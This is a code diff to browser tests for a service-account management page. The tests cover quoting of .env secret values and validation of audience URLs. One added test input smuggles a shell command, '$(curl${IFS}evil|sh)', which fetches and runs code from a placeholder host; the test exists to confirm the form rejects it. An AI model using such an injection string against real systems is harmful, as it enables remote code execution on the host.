@@ -51,8 +51,9 @@ test("service account lifecycle: create, secret once, rotate, revoke, deactivate
   const clientId = await reveal.getByLabel("Client ID", { exact: true }).inputValue();
   expect(secret).toMatch(SECRET);
   expect(clientId).toMatch(/^sa_[0-9A-Za-z]{20}$/);
-  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_CLIENT_SECRET=${secret}`);
-  await expect(reveal.getByRole("tabpanel")).toContainText("TESSERA_TOKEN_URL=http://localhost:3100/oauth/token");
+  // Every .env value is a single-quoted shell word: sourcing the file expands nothing.
+  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_CLIENT_SECRET='${secret}'`);
+  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_TOKEN_URL='${new URL("/oauth/token", page.url()).href}'`);
   await reveal.getByRole("tab", { name: "curl" }).click();
   await expect(reveal.getByRole("tabpanel")).toContainText(`-u '${clientId}:${secret}'`);
   await expect(reveal.getByRole("tabpanel")).toContainText("-d grant_type=client_credentials");
@@ -225,6 +226,13 @@ test("bad input shows field-level errors and saves nothing", async ({ page }) =>
   await audience.fill("not a uri");
   await audience.press("Enter");
   await expect(page.getByText("“not a uri”: Audiences cannot contain spaces")).toBeVisible();
+  // Nor does one a shell would run, or one the URL parser would rewrite: its canonical form is named instead.
+  await audience.fill("https://x.example/$(curl${IFS}evil|sh)");
+  await audience.press("Enter");
+  await expect(page.getByText("“https://x.example/$(curl${IFS}evil|sh)”: Audiences cannot contain $, backticks, quotes or backslashes")).toBeVisible();
+  await audience.fill("https://Billing.example.com:443/");
+  await audience.press("Enter");
+  await expect(page.getByText("“https://Billing.example.com:443/”: Write this audience in canonical form: https://billing.example.com/")).toBeVisible();
   await expect(page.getByRole("list", { name: "Audiences added" })).toHaveCount(0);
   await audience.fill("");
 
